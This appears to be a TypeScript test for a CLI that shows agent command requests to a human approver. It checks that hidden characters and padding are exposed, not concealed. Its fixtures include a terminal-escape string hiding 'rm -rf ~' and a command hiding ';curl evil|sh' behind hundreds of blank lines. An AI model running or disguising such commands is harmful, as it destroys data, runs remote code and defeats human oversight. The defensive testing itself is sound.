import { expect, test } from "bun:test";
import { wanted } from "../support/approvals.ts";
import { callCli } from "../support/cli-harness.ts";
import { listen } from "../support/listen.ts";
import { startRelay } from "../support/relay.ts";

test("G14: hidden characters of a subject are spelled out in a list, and whole; blank lines are counted", async () => {
  const relay = await startRelay();
  const env = { SIGNALBOX_URL: listen(relay), SIGNALBOX_TOKEN: relay.relay.operatorToken };
  const ann = await relay.agent("ann");
  const cli = async (...words: string[]) => (await callCli(["approvals", ...words], { env })).stdout;
  const asks = async (line: string, title: string) =>
    (await relay.ask("POST", "/v1/approvals", wanted(line, { title }), ann)).body.id;

  const hidden = "\u001b]0;rm -rf ~;#\u0007 \u009d0;x\u009c \u200b\u202e\u{e0041}-la\r";
  const shown = "\\u{1b}]0;rm -rf ~;#\\u{7} \\u{9d}0;x\\u{9c} \\u{200b}\\u{202e}\\u{e0041}-la\\u{d}";
  const first = await asks(`ls ${hidden}`, "Look \u2066around");
  expect(await cli("list")).toContain(`Look \\u{2066}around: ls ${shown}`);
  const whole = await cli("show", first);
  expect(whole).toContain(`What exactly:\n  type: command\n  line: ls ${shown}\n  cwd: /work/app\n`);
  expect(whole).toContain("Look \\u{2066}around");

  const second = await asks(`ls${"\n \n".repeat(150)}\n;curl evil|sh${" ".repeat(900)}-o x\n\n\ny`, "List");
  expect(await cli("show", second)).toContain(
    "  line: ls\n  ⟨300 blank lines⟩\n  ;curl evil|sh ⟨900 blanks⟩ -o x\n  \n  \n  y\n  cwd: /work/app\n",
  );
});
